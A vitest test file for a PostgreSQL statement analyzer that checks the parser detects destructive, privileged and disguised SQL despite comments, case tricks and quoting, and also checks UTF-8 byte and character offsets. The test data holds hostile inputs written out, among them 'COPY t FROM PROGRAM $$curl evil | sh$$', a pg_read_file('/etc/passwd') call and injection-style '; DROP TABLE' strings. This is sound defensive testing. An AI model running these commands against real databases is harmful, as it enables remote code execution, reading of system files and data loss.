/**
 * Statements written to fool a naive (text-matching) filter, and byte/character offsets when
 * multi-byte UTF-8 precedes a statement. The real parser sees through all of them.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { analyze, loadAnalyzer } from '../../analyzer/index.js';
import { factTable } from './facts-helpers.js';

factTable('fooling a naive filter', [
  { sql: 'dElEtE fRoM t', kind: 'write', rels: ['write:t'], destructive: 'DELETE without WHERE' },
  { sql: 'DELETE/* where id = 1 */FROM t', kind: 'write', destructive: 'DELETE without WHERE' },
  { sql: 'DELETE -- WHERE id = 1\nFROM t', destructive: 'DELETE without WHERE' },
  { sql: 'DROP/**/TABLE/**/t', destructive: 'DROP TABLE t' },
  { sql: 'DROP /* nested /* comment */ still */ TABLE t', destructive: 'DROP TABLE t' },
  { sql: 'DELETE FROM "Users"', rels: ['write:Users'], destructive: 'DELETE without WHERE removes every row of "Users"' },
  { sql: 'DELETE FROM "my table" WHERE "where" = 1', rels: ['write:my table', 'read:my table(where)'] },
  { sql: 'DROP TABLE "DROP"', destructive: 'DROP TABLE "DROP"' },
  { sql: 'DELETE FROM U&"\\0074"', rels: ['write:t'], destructive: true },
  { sql: 'SELECT U&"d\\0061t\\+000061" FROM U&"!0074" UESCAPE \'!\'', rels: ['read:t(data)'] },
  { sql: "SELECT 'DROP TABLE t; DELETE FROM u'", kind: 'read', rels: [] },
  { sql: "SELECT E'\\'; DROP TABLE t; --'", kind: 'read', rels: [], n: 1 },
  { sql: "SELECT $$; DROP TABLE t; $$", kind: 'read', n: 1 },
  { sql: "SELECT $tag$ $$ ; DELETE FROM t $$ $tag$", kind: 'read', n: 1 },
  { sql: "SELECT 'it''s; DROP TABLE x'", kind: 'read', n: 1 },
  { sql: 'SELECT 1 AS "; DROP TABLE t; --"', kind: 'read', n: 1 },
  { sql: "SELECT 1; DROP TABLE t", at: 1, n: 2, destructive: 'DROP TABLE t' },
  { sql: "SELECT 1;DELETE FROM t;SELECT 2", at: 1, n: 3, kind: 'write', destructive: true },
  { sql: "SELECT 1;DELETE FROM t;SELECT 2", at: 2, n: 3, kind: 'read' },
  { sql: 'with X as (delete from T returning *) select * from x', kind: 'write', rels: ['write:t'], destructive: true },
  { sql: 'select * into TEMP stolen from secrets', kind: 'ddl', hasRels: ['read:secrets', 'create:stolen'] },
  { sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", privileged: 'pg_read_file' },
  { sql: 'SELECT "pg_read_file"(\'x\')', privileged: 'pg_read_file' },
  { sql: "SELECT PG_READ_FILE('x')", privileged: 'pg_read_file' },
  { sql: "copy T from program 'id'", privileged: 'PROGRAM' },
  { sql: "COPY t FROM PROGRAM $$curl evil | sh$$", privileged: 'PROGRAM' },
  { sql: 'set role "Admin"', privileged: 'SET ROLE Admin' },
  { sql: 'SeT SeSsIoN aUtHoRiZaTiOn DEFAULT', setting: { name: 'session_authorization' } },
  { sql: "DO $x$ BEGIN EXECUTE 'DROP ' || 'TABLE t'; END $x$", opaque: 'dynamic SQL' },
  { sql: "DO E'BEGIN DELETE FROM t; END'", kind: 'write', destructive: 'DELETE without WHERE' },
  { sql: "DO 'BEGIN DELETE FROM t; END'", destructive: 'DELETE without WHERE' },
  { sql: 'EXPLAIN (ANALYZE) WITH d AS (DELETE FROM t RETURNING 1) SELECT 1', kind: 'write', destructive: true },
  { sql: 'explain analyse delete from t', kind: 'write', destructive: true },
  { sql: 'PREPARE "X" AS DELETE FROM t', prepared: { kind: 'write', tag: 'DELETE', destructive: true } },
  { sql: 'UPDATE t SET a = 1 -- WHERE id = 1', destructive: 'UPDATE without WHERE' },
  { sql: 'UPDATE t SET a = 1 /* WHERE id = 1 */', destructive: 'UPDATE without WHERE' },
  { sql: 'SELECT * FROM t WHERE note = \'WHERE\'', kind: 'read' },
  { sql: 'ALTER TABLE t ADD COLUMN "DROP TABLE" int', locks: ['t:AccessExclusive'], rels: ['alter:t(DROP TABLE)'], inverse: 'ALTER TABLE t DROP COLUMN "DROP TABLE"' },
  { sql: 'ALTER TABLE "Weird.Name" RENAME TO "user"', inverse: 'ALTER TABLE "user" RENAME TO "Weird.Name"' },
  { sql: 'TRUNCATE ONLY t', destructive: 'TRUNCATE t' },
  { sql: 'CREATE INDEX "create index concurrently" ON t (a)', locks: ['t:Share/SCAN'] },
]);

describe('offsets with multi-byte UTF-8 before a statement', () => {
  beforeAll(async () => { await loadAnalyzer(); });

  it('gives each statement its byte range, character location and exact text', () => {
    const sql = "SELECT 'é€🎉' AS x; /* ünïcødé */ DELETE FROM t WHERE id = 1; SELECT 'ok'";
    const a = analyze(sql);
    if (!a.ok) throw new Error(a.error.message);
    const buf = Buffer.from(sql, 'utf8');
    expect(a.statements.length).toBe(3);
    for (const f of a.statements) {
      // byte range and text agree
      expect(buf.subarray(f.byteStart, f.byteEnd).toString('utf8')).toBe(f.text);
      // the location points at the first keyword, in both units
      expect(sql.slice(f.location.char, f.location.char + 6).toUpperCase()).toMatch(/^(SELECT|DELETE)$/);
      expect(buf.subarray(f.location.byte, f.location.byte + 6).toString('utf8').toUpperCase()).toMatch(/^(SELECT|DELETE)$/);
    }
    const del = a.statements[1]!;
    expect(del.kind).toBe('write');
    expect(del.location.byte).toBeGreaterThan(del.location.char); // multi-byte characters precede it
    // PostgreSQL 18's parser starts a statement at its first token: the comment before it is not part of it
    expect(del.text).toBe('DELETE FROM t WHERE id = 1');
    expect(del.byteStart).toBe(del.location.byte);
  });

  it('handles a statement without a trailing semicolon after multi-byte text (stmt_len absent means to the end)', () => {
    const sql = "SELECT 'ü'; UPDATE t SET a = 'ß'";
    const a = analyze(sql);
    if (!a.ok) throw new Error(a.error.message);
    const last = a.statements[1]!;
    expect(last.text).toBe("UPDATE t SET a = 'ß'");
    expect(last.byteEnd).toBe(Buffer.byteLength(sql));
  });

  it('points finding locations at the right character after multi-byte text', () => {
    const sql = "SELECT 'ü€'; DELETE FROM t";
    const a = analyze(sql);
    if (!a.ok) throw new Error(a.error.message);
    const del = a.statements[1]!;
    expect(del.destructive.length).toBe(1);
    expect(sql.slice(del.location.char, del.location.char + 6)).toBe('DELETE');
  });
});
